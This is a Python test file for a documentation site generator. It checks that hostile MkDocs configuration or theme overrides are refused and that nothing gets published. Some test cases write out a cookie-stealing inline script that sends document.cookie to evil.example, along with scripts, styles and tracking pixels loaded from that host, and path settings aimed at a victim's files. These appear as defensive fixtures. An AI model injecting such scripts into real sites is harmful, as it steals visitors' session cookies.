"""A hostile `mkdocs.yml` or theme override, as a pull request would bring it, through the
real `python -m generator build` (issue 18, "configuration that destroys or escapes"):
refused with a clear error, nothing published, the published site and every other folder
exactly as they were."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import sample
from validating import snapshot

from generator.site import outdir


def make_project(tmp_path: Path, content: Path, config: str = "", overrides: dict[str, str] | None = None) -> Path:
    """The sample's project of copies (a build that went wrong here must not reach the
    repository), with a site a build published, lines appended to mkdocs.yml and override
    files written."""
    project = sample.make_project(tmp_path / "project", config=config, copied=("docs", "overrides"))
    shutil.rmtree(project / "content")
    shutil.copytree(content, project / "content")
    for rel, text in (overrides or {}).items():
        (project / "overrides" / rel).parent.mkdir(parents=True, exist_ok=True)
        (project / "overrides" / rel).write_text(text, encoding="utf-8")
    live = project / "site"
    live.mkdir()
    (live / "index.html").write_text("the published site")
    outdir.mark(live)
    return project


def build(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "generator", "build", *args], cwd=project,
                          capture_output=True, text=True, timeout=300)


def refused(done: subprocess.CompletedProcess[str]) -> str:
    assert done.returncode == 1, done.stdout + done.stderr
    assert "Traceback" not in done.stderr and done.stdout == ""
    return done.stderr.splitlines()[0].removeprefix("error: ")


def published_untouched(project: Path) -> None:
    assert sorted(p.name for p in (project / "site").iterdir()) == [outdir.MARKER, "index.html"]
    assert (project / "site" / "index.html").read_text() == "the published site"
    assert [p.name for p in project.iterdir() if p.name.startswith(".site")] == []  # no staging left


# --- folders the build would replace ---------------------------------------------------------


def test_site_dir_naming_the_content_is_refused(tmp_path: Path, content: Path) -> None:
    project = make_project(tmp_path, content, "site_dir: content\n")
    before = snapshot(project / "content")
    assert refused(build(project)) == (
        "mkdocs.yml: site_dir content overlaps the content folder (content): the build replaces its "
        "output folder whole; use a folder of its own, such as site")
    assert snapshot(project / "content") == before
    published_untouched(project)


@pytest.mark.parametrize("site_dir", ["../victim", "/tmp/../{victim}", ".."])
def test_site_dir_outside_the_project_is_refused(tmp_path: Path, content: Path, site_dir: str) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "thesis.tex").write_text("years of work")
    project = make_project(tmp_path, content, f"site_dir: {site_dir.format(victim=victim)}\n")
    shown = tmp_path if site_dir == ".." else victim
    assert refused(build(project)) == (
        f"mkdocs.yml: site_dir {shown} is not a folder inside the project ({project}): the build "
        "replaces its output folder whole; use site_dir: site")
    assert (victim / "thesis.tex").read_text() == "years of work"
    published_untouched(project)


def test_a_folder_of_other_files_is_refused(tmp_path: Path, content: Path) -> None:
    """Inside the project, apart from its sources, but holding what no build wrote."""
    project = make_project(tmp_path, content, "site_dir: notes\n")
    (project / "notes").mkdir()
    (project / "notes" / "todo.md").write_text("mine")
    assert refused(build(project)) == (
        f"mkdocs.yml: site_dir: {project / 'notes'} holds files no build wrote (no {outdir.MARKER} in it) "
        "and the build would replace it whole; choose a new or empty folder, or delete this one if it is "
        "an old site")
    assert (project / "notes" / "todo.md").read_text() == "mine"
    published_untouched(project)


def test_a_foreign_folder_beside_the_site_is_not_deleted(tmp_path: Path, content: Path) -> None:
    """The swap moves the old site to <site>.old and deletes what was there first."""
    project = make_project(tmp_path, content)
    (project / "site.old").mkdir()
    (project / "site.old" / "keep.txt").write_text("mine")
    message = refused(build(project))
    assert message.startswith(f"mkdocs.yml: site_dir: {project / 'site.old'} holds files no build wrote")
    assert (project / "site.old" / "keep.txt").read_text() == "mine"
    published_untouched(project)


def test_site_dir_on_the_command_line_is_checked_too(tmp_path: Path, content: Path) -> None:
    project = make_project(tmp_path, content)
    assert refused(build(project, "--site-dir", "docs")) == (
        "--site-dir docs overlaps docs_dir (docs): the build replaces its output folder whole; use a "
        "folder of its own, such as site")
    assert (project / "docs" / "assets" / "reader.js").is_file()


def test_docs_dir_outside_the_project_is_refused(tmp_path: Path, content: Path) -> None:
    secrets = tmp_path / "home"
    secrets.mkdir()
    (secrets / "id_rsa").write_text("PRIVATE KEY")
    project = make_project(tmp_path, content, "docs_dir: ../home\n")
    assert refused(build(project)) == (
        f"mkdocs.yml: docs_dir {secrets} is not a folder inside the project ({project}): the build would "
        "publish what it holds; use docs_dir: docs")
    published_untouched(project)


def test_a_site_the_build_published_is_replaced_and_marked(tmp_path: Path, content: Path) -> None:
    project = make_project(tmp_path, content)
    for _ in range(2):  # the second build replaces the first's site
        done = build(project)
        assert done.returncode == 0, done.stderr
        assert (project / "site" / outdir.MARKER).read_text() == outdir.MARKER_TEXT
        assert (project / "site" / "days" / "2016-10-10" / "index.html").is_file()
    assert not (project / "site.old").exists()


# --- pages that would load from another host ------------------------------------------------


EVIL = "https://evil.example"


@pytest.mark.parametrize(("config", "overrides", "finding"), [
    (f"extra_javascript:\n  - {EVIL}/assets/digest.js\n", {},
     f"index.html: <script src='{EVIL}/assets/digest.js'> loads from another host"),
    (f"extra_css:\n  - {EVIL}/theme.css\n", {},
     f"index.html: <link href='{EVIL}/theme.css'> loads from another host"),
    ("", {"main.html": '{% extends "base.html" %}\n{% block scripts %}{{ super() }}'
          '<script>__md_scope=new URL(".",location);fetch("//evil.example/?"+document.cookie)</script>'
          "{% endblock %}\n"},
     "index.html: inline script that is not the theme's: "
     """'__md_scope=new URL(".",location);fetch("//evil.example/?"+do'"""),
    ("", {"main.html": '{% extends "base.html" %}\n{% block extrahead %}'
          f'<link rel="preload" as="image" href="{EVIL}/pixel.png">{{% endblock %}}\n'},
     f"index.html: <link href='{EVIL}/pixel.png'> loads from another host"),
    ("", {"main.html": '{% extends "base.html" %}\n{% block extrahead %}'
          '<link rel="icon" href="\\\\evil.example/favicon.png">{% endblock %}\n'},
     "index.html: <link href='\\\\\\\\evil.example/favicon.png'> loads from another host"),
])
def test_configuration_and_overrides_cannot_load_from_another_host(
        tmp_path: Path, content: Path, config: str, overrides: dict[str, str], finding: str) -> None:
    project = make_project(tmp_path, content, config, overrides)
    message = build(project)
    assert refused(message).startswith("verify: ") and "nothing was published" in message.stderr
    assert finding in message.stderr.splitlines()
    published_untouched(project)


def test_plain_mkdocs_build_is_guarded_too(tmp_path: Path, content: Path) -> None:
    """`mkdocs build` (through the hooks) empties its site_dir before writing: refused first."""
    project = make_project(tmp_path, content, "site_dir: content\n")
    before = snapshot(project / "content")
    done = subprocess.run([sys.executable, "-m", "mkdocs", "build"], cwd=project, capture_output=True,
                          text=True, timeout=300)
    assert done.returncode == 1
    assert ("mkdocs.yml: site_dir content overlaps the content folder (content): the build replaces its "
            "output folder whole; use a folder of its own, such as site") in done.stderr
    assert snapshot(project / "content") == before
